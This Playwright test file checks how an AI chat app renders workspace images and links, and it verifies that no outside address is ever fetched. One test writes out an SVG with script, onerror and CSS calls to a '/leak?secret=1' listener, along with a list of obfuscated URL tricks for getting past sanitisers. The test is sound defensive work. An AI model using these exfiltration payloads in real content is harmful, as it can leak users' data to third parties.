/** Pictures and files of the workspace in answers and in Markdown files; nothing in a text is loaded from the network. */
import { createServer, type AddressInfo } from 'node:net';
import type { Locator, Page } from '@playwright/test';
import { startChatServer, type ChatServer } from '#tests/fixtures/model-servers/chat-server.ts';
import { addServer, runEnds, send, transcript } from '../../chat.ts';
import { expect, test } from '../../app.ts';

let server: ChatServer;
test.beforeEach(async ({ app }) => {
  server = await startChatServer();
  await addServer(app, server.url);
});
test.afterEach(() => server.close());

/** Paints a picture of this size into the workspace. */
function paint(app: Page, path: string, width: number, height: number): Promise<void> {
  return app.evaluate(
    async ({ path, width, height }) => {
      const canvas = new OffscreenCanvas(width, height);
      const context = canvas.getContext('2d');
      if (!context) throw new Error('There is no canvas.');
      context.fillStyle = 'teal';
      context.fillRect(0, 0, width / 2, height);
      const extension = path.slice(path.lastIndexOf('.') + 1);
      const blob = await canvas.convertToBlob({ type: `image/${extension}` });
      await window.oneclaw.files.write(path, blob);
    },
    { path, width, height },
  );
}

const drawing = (more = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="120" height="60">${more}<rect width="60" height="60" fill="teal"/></svg>`;

const write = (app: Page, path: string, text: string) =>
  app.evaluate(({ path, text }) => window.oneclaw.files.write(path, text), { path, text });

/** The natural width of a picture that is decoded; 0 before. */
const shownWidth = (picture: Locator) =>
  picture.evaluate((image: HTMLImageElement) => (image.complete ? image.naturalWidth : 0));

test('an answer shows pictures of the workspace and links to its files @core', async ({ app }) => {
  await paint(app, 'charts/Sales (2026).png', 300, 200);
  await paint(app, 'photo.jpeg', 64, 48);
  await write(app, 'plan.svg', drawing());
  await write(app, 'report.md', '# Report');
  server.enqueue({
    text: [
      'The chart: ![Sales by month](charts/Sales (2026).png) and ![](photo.jpeg "At night").',
      '![The plan][plan]',
      'Read [the report](./report.md) or `report.md`, not `missing.md`.',
      '![Winter](winter.png)',
      '[plan]: plan.svg',
    ].join('\n\n'),
  });
  await send(app, 'Show them');
  await runEnds(app);
  const log = transcript(app);
  const chart = log.getByRole('img', { name: 'Sales by month' });
  await expect.poll(() => shownWidth(chart)).toBe(300);
  expect(await chart.getAttribute('src')).toMatch(/^blob:/);
  await expect.poll(() => shownWidth(log.getByRole('img', { name: 'photo.jpeg' }))).toBe(64);
  await expect.poll(() => shownWidth(log.getByRole('img', { name: 'The plan' }))).toBe(120);
  await expect(log).toContainText('Winter. There is no file winter.png.');
  await expect(log.getByRole('link', { name: 'the report' })).toHaveAttribute('href', '#/files/report.md');
  await expect(log.getByRole('link', { name: 'report.md', exact: true })).toBeVisible();
  await expect(log.getByRole('link', { name: 'missing.md' })).toHaveCount(0);

  // What is written later is shown without a reload.
  await paint(app, 'winter.png', 40, 30);
  await expect.poll(() => shownWidth(log.getByRole('img', { name: 'Winter' }))).toBe(40);

  await log.getByRole('link', { name: 'Sales by month' }).click();
  await expect(app.getByRole('heading', { name: 'Sales (2026).png' })).toBeVisible();
  await expect.poll(() => shownWidth(app.getByRole('img', { name: 'Sales (2026).png' }))).toBe(300);
});

test('what the app told the model beside the words can be opened at the message', async ({ app }) => {
  server.enqueue({ text: 'Hello.' }, { text: 'I see it.' });
  await send(app, 'Hi');
  await runEnds(app);
  await write(app, 'later.md', 'More');
  await send(app, 'And now?');
  await runEnds(app);
  const messages = JSON.stringify(server.requests.at(-1)?.body.messages);
  expect(messages).toContain('later.md (4 bytes)');
  const told = transcript(app).locator('details', { hasText: 'The app told the model' });
  await expect(told).toHaveCount(2);
  const line = told.last().getByText('later.md (4 bytes)');
  await expect(line).toBeHidden();
  await told.last().locator('summary').click();
  await expect(line).toBeVisible();
});

test('a Markdown file shows pictures from its own folder, and its links lead to other files', async ({
  app,
}) => {
  await paint(app, 'trip/pics/beach.webp', 80, 60);
  await write(
    app,
    'trip/days/one.md',
    '# Day one\n\n![Beach](../pics/beach.webp)\n\n[Day two](two.md) ![x](../../../out.png)',
  );
  await write(app, 'trip/days/two.md', '# Day two');
  await app.evaluate(() => (location.hash = '#/files/trip/days/one.md'));
  await expect.poll(() => shownWidth(app.getByRole('img', { name: 'Beach' }))).toBe(80);
  await expect(app.getByRole('img', { name: 'x' })).toHaveCount(0);
  await app.getByRole('link', { name: 'Day two' }).click();
  await expect(app.getByRole('article').getByRole('heading', { name: 'Day two' })).toBeVisible();
});

/** A server that records each connection. */
async function listen() {
  const connections: string[] = [];
  const listening = createServer((socket) => {
    socket.on('data', (data) => {
      connections.push(data.toString('latin1').split('\r\n', 1)[0] ?? '');
      socket.end('HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n');
    });
    socket.on('error', () => undefined);
  });
  await new Promise<void>((resolve) => listening.listen(0, '127.0.0.1', resolve));
  const host = `127.0.0.1:${(listening.address() as AddressInfo).port}`;
  return { connections, host, close: () => listening.close() };
}

test('no address in an answer or a drawing is ever fetched', async ({ app }) => {
  const outside = await listen();
  const { host } = outside;
  const requests: string[] = [];
  app.on('request', (request) => requests.push(request.url()));
  const address = `http://${host}/leak?secret=1`;
  await write(
    app,
    'spy.svg',
    drawing(
      `<script>fetch('${address}')</script><image href="${address}" width="9" height="9"/><style>@import '${address}'; rect { fill: url(${address}) }</style><foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="${address}" onerror="fetch('${address}')"/></foreignObject><use xlink:href="${address}#a"/>`,
    ),
  );
  const addresses = [
    address,
    `//${host}/a.png`,
    `\\\\\\\\${host}/a.png`,
    `&#104;ttp://${host}/a.png`,
    `http&colon;//${host}/a.png`,
    `%68ttp://${host}/a.png`,
    `http%3A//${host}/a.png`,
    `%2F%2F${host}/a.png`,
    `/%2e%2e//${host}/a.png`,
    `sandbox:/workspace//${host}/a.png`,
    `file:////${host}/a.png`,
    `javascript:fetch('${address}')`,
    `data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'%3E%3Cimage href='${address}'/%3E%3C/svg%3E`,
    `blob:${address}`,
  ];
  const text = [
    '![spy](spy.svg)',
    ...addresses.flatMap((each) => [
      `![a](<${each}>)`,
      `![a](${each})`,
      `[![a](<${each}>)](<${each}>)`,
      `\`${each}\``,
    ]),
    `<img src="${address}"> <http://${host}/auto> http://${host}/bare`,
    `![ref][leak]\n\n[leak]: ${address}`,
    `![tab](<ht\ttp://${host}/a.png>)`,
    'The end.',
  ].join('\n\n');
  server.enqueue({ text });
  await send(app, 'Go');
  await runEnds(app);
  await expect(transcript(app)).toContainText('The end.');
  await transcript(app).getByRole('link', { name: 'spy' }).scrollIntoViewIfNeeded();
  await expect.poll(() => shownWidth(transcript(app).getByRole('img', { name: 'spy' }))).toBe(120);
  await write(app, 'copy.md', text);
  await app.evaluate(() => (location.hash = '#/files/copy.md'));
  const article = app.getByRole('article');
  await expect(article).toContainText('The end.');
  await expect.poll(() => shownWidth(article.getByRole('img', { name: 'spy' }))).toBe(120);
  // Every other picture is a note, a link or text by now.
  await expect(article.locator('img')).toHaveCount(1);
  expect(requests.filter((url) => url.includes(host))).toEqual([]);
  expect(outside.connections).toEqual([]);
  outside.close();
});

test('a link that still streams is not shown in halves, and its picture loads when its block is complete', async ({
  app,
}) => {
  await paint(app, 'pic.png', 30, 20);
  const gate = server.hold();
  server.enqueue({ text: 'Look: ![A pic](pic.png) and [more](https://example.com/page).\n\nDone.', gate });
  await send(app, 'Go');
  await gate.reached;
  const log = transcript(app);
  // The text arrives in pieces of five characters, after one event with the role.
  gate.release(1 + 3);
  await expect(log).toContainText('Look:');
  await expect(log).not.toContainText('A p');
  gate.release(3);
  await expect(log).toContainText('A pic');
  await expect(log.getByRole('img', { name: 'A pic' })).toHaveCount(0);
  gate.release();
  await runEnds(app);
  await expect.poll(() => shownWidth(log.getByRole('img', { name: 'A pic' }))).toBe(30);
  await expect(log.getByRole('link', { name: 'more' })).toBeVisible();
});

test('of two hundred pictures only those near the screen are loaded, and each has its place before', async ({
  app,
}) => {
  await app.evaluate(() => {
    const made = { open: 0 };
    Object.assign(window, { made });
    const [create, revoke] = [URL.createObjectURL.bind(URL), URL.revokeObjectURL.bind(URL)];
    URL.createObjectURL = (blob: Blob) => (made.open++, create(blob));
    URL.revokeObjectURL = (url: string) => (made.open--, revoke(url));
  });
  await paint(app, 'tall.png', 300, 400);
  await paint(app, 'large.png', 3_000, 2_000);
  await app.evaluate(async () => {
    const blob = await window.oneclaw.files.read('tall.png', { as: 'blob' });
    for (let at = 0; at < 199; at++) await window.oneclaw.files.write(`album/${at}.png`, blob);
  });
  const lines = Array.from({ length: 199 }, (_, at) => `![Picture ${at}](album/${at}.png)`);
  server.enqueue({ text: ['![Large](large.png)', ...lines].join('\n\n') });
  await send(app, 'Album');
  await runEnds(app);
  const log = transcript(app);
  const open = () => app.evaluate(() => (window as Window & { made?: { open: number } }).made?.open ?? 0);
  await expect(log.getByRole('link', { name: /^Picture/ })).toHaveCount(199);
  const last = log.getByRole('img', { name: 'Picture 198' });
  await expect.poll(() => shownWidth(last)).toBe(300);
  expect(await log.locator('img').count()).toBeLessThan(40);
  // Up to the first one: it is decoded at the size of its box, and the last ones are given up.
  await log.getByRole('link', { name: 'Large' }).scrollIntoViewIfNeeded();
  const large = log.getByRole('img', { name: 'Large' });
  await expect.poll(() => shownWidth(large)).toBeGreaterThan(0);
  expect(await shownWidth(large)).toBeLessThan(3_000);
  await expect(last).toHaveCount(0);
  expect(await open()).toBeLessThan(40);
  // A place has the shape of its picture, loaded or not.
  const box = await log.getByRole('link', { name: 'Picture 100', exact: true }).boundingBox();
  expect((box?.height ?? 0) / (box?.width ?? 1)).toBeCloseTo(4 / 3, 1);
  await app.evaluate(() => (location.hash = '#/agents'));
  await expect.poll(open).toBe(0);
});
